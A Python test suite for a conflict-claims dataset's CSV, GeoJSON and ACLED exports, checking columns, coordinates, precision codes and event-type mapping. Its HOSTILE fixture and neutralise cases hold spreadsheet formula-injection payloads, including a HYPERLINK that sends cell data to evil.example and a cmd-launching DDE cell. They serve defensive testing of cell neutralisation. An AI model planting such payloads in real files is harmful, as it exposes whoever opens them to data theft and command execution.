"""Exports of the shown claims: spreadsheet-safe CSV, valid GeoJSON, ACLED's columns."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime

import pandas as pd
import pytest

from src.briefing.exports import (
    ACLED_COLUMNS,
    acled_csv,
    acled_table,
    claims_csv,
    claims_geojson,
    interaction,
    neutralise,
    time_precision,
)
from src.dataset import DATA_DIR, Dataset
from src.filters import FilterState, apply_filters
from src.schema import ACLED_EVENT_TYPES, EVENT_TAXONOMY, EVENTS

HOSTILE = {
    "summary": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "claimant": "+1",
    "notes": "-2",
    "quote": "@SUM(A1:A9)",
    "figures_note": "\t=1+1",
    "actor1": "  =cmd|' /C calc'!A0",
}


@pytest.fixture(scope="module")
def data(bundled: Dataset) -> Dataset:
    return bundled


def read_csv(payload: bytes) -> list[dict[str, str]]:
    assert payload.startswith(b"\xef\xbb\xbf")  # BOM: spreadsheets read it as UTF-8
    return list(csv.DictReader(io.StringIO(payload.decode("utf-8-sig"), newline="")))


# --- CSV ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=HYPERLINK(1)", "'=HYPERLINK(1)"),
        ("+1", "'+1"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1", "'  =1"),
        ("Baku", "Baku"),
        ("", ""),
        ("a-b = c", "a-b = c"),
    ],
)
def test_neutralise(cell, expected):
    assert neutralise(cell) == expected


def test_hostile_cells_are_neutralised_and_nothing_else_changes(data):
    events = data.events.head(3).copy()
    for col, value in HOSTILE.items():
        events.loc[events.index[0], col] = value
    rows = read_csv(claims_csv(events))
    assert len(rows) == 3
    first = rows[0]
    for col, value in HOSTILE.items():
        assert first[col] == "'" + value, col
    assert first["event_id"] == events.iloc[0]["event_id"]
    assert first["date_start"] == events.iloc[0]["date_start"].strftime("%Y-%m-%d")
    assert all(not v.startswith("'") for r in rows[1:] for v in r.values())


def test_csv_has_the_schema_columns_and_reproduces_events_csv(data):
    payload = claims_csv(data.events, data.places)
    rows = read_csv(payload)
    assert list(rows[0]) == [*EVENTS.column_names, "place_name", "location_precision", "lat", "lon"]
    with (DATA_DIR / "events.csv").open(encoding="utf-8-sig", newline="") as handle:
        original = list(csv.DictReader(handle))
    # no cell in the data starts like a formula; the columns events.csv lacks are the dataset
    # (articles) and the place's coordinates
    assert [{k: r[k] for k in original[0]} for r in rows] == original
    assert {r["dataset"] for r in rows} == {"articles"}
    first = next(r for r in rows if r["place_id"] == "stepanakert")
    assert (first["lat"], first["lon"]) == ("39.8153", "46.7519")
    assert (first["place_name"], first["location_precision"]) == (
        "Stepanakert / Khankendi",
        "exact",
    )
    assert all(r["lat"] == "" for r in rows if not r["place_id"])


def test_csv_of_a_filtered_view_keeps_blank_figures_blank(data):
    view = apply_filters(data.events, FilterState(period="offensive", sides=("Azerbaijan",)))
    rows = read_csv(claims_csv(view))
    assert [r["event_id"] for r in rows] == list(view["event_id"])
    for row, (_, src) in zip(rows, view.iterrows(), strict=True):
        want = "" if pd.isna(src["fatalities"]) else str(int(src["fatalities"]))
        assert row["fatalities"] == want


# --- GeoJSON --------------------------------------------------------------------------------


def test_geojson_features_all_have_geometry_and_claim_fields(data):
    collection = claims_geojson(data.events, data.places, data.sources, {"caveat": "x"})
    assert collection["type"] == "FeatureCollection"
    assert json.loads(json.dumps(collection)) == collection  # plain JSON, round-trips
    features = collection["features"]
    assert features
    ids = [f["id"] for f in features]
    assert len(ids) == len(set(ids))
    for feature in features:
        assert feature["type"] == "Feature"
        geometry = feature["geometry"]
        assert geometry
        assert geometry["type"] in ("Point", "LineString")
        points = (
            [geometry["coordinates"]] if geometry["type"] == "Point" else geometry["coordinates"]
        )
        assert points
        for lon, lat in points:
            assert -180 <= lon <= 180
            assert -90 <= lat <= 90
        props = feature["properties"]
        if props["feature_kind"] == "claim":
            assert set(EVENTS.column_names) <= set(props)
            assert props["place_name"]
            assert props["location_precision"]
            assert props["source_headlines"]
        else:
            assert props["feature_kind"] == "route"
            assert geometry["type"] == "LineString"
            assert len(points) >= 2


def test_geojson_keeps_every_claim_and_lon_lat_order(data):
    collection = claims_geojson(data.events, data.places, data.sources)
    claims = [f for f in collection["features"] if f["properties"]["feature_kind"] == "claim"]
    unlocated = collection["unlocated"]
    assert len(claims) + len(unlocated) == len(data.events)
    assert len(unlocated) == int((data.events["place_id"] == "").sum())
    assert all(u["place_id"] == "" and u["place_name"] is None for u in unlocated)
    at = next(f for f in claims if f["properties"]["place_id"] == "stepanakert")
    stepanakert = data.places.set_index("place_id").loc["stepanakert"]
    assert at["geometry"]["coordinates"] == [
        round(stepanakert["lon"], 5),
        round(stepanakert["lat"], 5),
    ]
    routes = [f for f in collection["features"] if f["properties"]["feature_kind"] == "route"]
    assert {f["id"] for f in routes} == set(
        data.places.loc[data.places["waypoints"] != "", "place_id"]
    )


def test_geojson_properties_are_json_typed(data):
    collection = claims_geojson(data.events, data.places, data.sources)
    props = [f["properties"] for f in collection["features"] if "event_id" in f["properties"]]
    for p in props:
        assert isinstance(p["date_start"], str)
        assert len(p["date_start"]) == 10
        assert p["fatalities"] is None or isinstance(p["fatalities"], int)
    figures = data.events.dropna(subset=["fatalities"])
    if len(figures):
        one = next(p for p in props if p["event_id"] == figures.iloc[0]["event_id"])
        assert one["fatalities"] == int(figures.iloc[0]["fatalities"])


# --- ACLED ----------------------------------------------------------------------------------


def test_acled_columns_and_one_row_per_claim(data):
    rows = read_csv(acled_csv(data.events, data.places, data.sources))
    assert tuple(rows[0]) == ACLED_COLUMNS
    assert len(rows) == len(data.events)
    assert all(r["event_id_cnty"].startswith("KCM-E") for r in rows)


def test_acled_geo_precision_and_coordinates_follow_the_gazetteer(data):
    acled_code = {"exact": "1", "near": "2", "region": "3"}  # ACLED's geo_precision codes
    table = acled_table(data.events, data.places, data.sources)
    places = data.places.set_index("place_id")
    for (_, row), pid in zip(table.iterrows(), data.events["place_id"], strict=True):
        if not pid:
            assert row["geo_precision"] == row["latitude"] == row["location"] == ""
            continue
        assert row["geo_precision"] == acled_code[places.at[pid, "precision"]]
        assert float(row["latitude"]) == pytest.approx(places.at[pid, "lat"], abs=1e-4)
        assert float(row["longitude"]) == pytest.approx(places.at[pid, "lon"], abs=1e-4)
        assert row["location"] == places.at[pid, "name"]
    assert set(table["geo_precision"]) == {"", *acled_code.values()}  # every code exercised


def test_acled_numbers_are_never_neutralised(data):
    washington = data.events[data.events["place_id"] == "washington"]
    assert not washington.empty, "the bundled data has claims made in Washington"
    table = acled_table(washington, data.places, data.sources)
    assert table["longitude"].str.startswith("-").all()  # a west longitude stays a number


def test_acled_types_stay_in_acleds_vocabulary_with_a_tag(data):
    table = acled_table(data.events, data.places, data.sources)
    acled_subs = {s for t in ACLED_EVENT_TYPES for s in EVENT_TAXONOMY[t]}
    assert set(table["event_type"]) <= set(ACLED_EVENT_TYPES)
    assert set(table["sub_event_type"]) <= acled_subs
    ours = data.events["event_type"].isin(["Access and aid", "Statements and talks"]).to_numpy()
    assert ours.any()
    assert table.loc[ours, "tags"].str.contains("not an ACLED event type").all()
    assert (table.loc[ours, "sub_event_type"] == "Other").all()


def test_acled_notes_carry_claimant_and_verification(data):
    table = acled_table(data.events, data.places, data.sources)
    for (_, row), (_, src) in zip(table.iterrows(), data.events.iterrows(), strict=True):
        assert row["notes"].startswith(
            f"Claim by {src['claimant']} ({src['claimant_side']}); {src['verification']}."
        )
        assert f"claim verification: {src['verification']}" in row["tags"]
        want = "" if pd.isna(src["fatalities"]) else str(int(src["fatalities"]))
        assert row["fatalities"] == want  # blank = not stated (ACLED would write 0)


def test_acled_timestamp_is_the_export_time(data):
    when = datetime(2024, 1, 2, tzinfo=UTC)
    table = acled_table(data.events.head(2), data.places, data.sources, when)
    assert set(table["timestamp"]) == {str(int(when.timestamp()))}


@pytest.mark.parametrize(
    ("precision", "start", "end", "expected"),
    [
        ("day", "2023-09-19", "2023-09-19", 1),
        ("day", "2023-09-19", "2023-09-21", 2),
        ("week", "2023-09-19", "2023-09-19", 2),
        ("month", "2023-09-01", "2023-09-01", 3),
        ("day", "1988-02-20", "1994-05-12", 3),
    ],
)
def test_time_precision(precision, start, end, expected):
    assert time_precision(precision, pd.Timestamp(start), pd.Timestamp(end)) == expected


def test_interaction_codes():
    assert interaction(1, 7, True) == 17
    assert interaction(7, 1, True) == 17
    assert interaction(1, None, False) == 10
    assert interaction(1, None, True) is None  # unknown second actor type: leave blank
    assert interaction(None, 1, True) is None
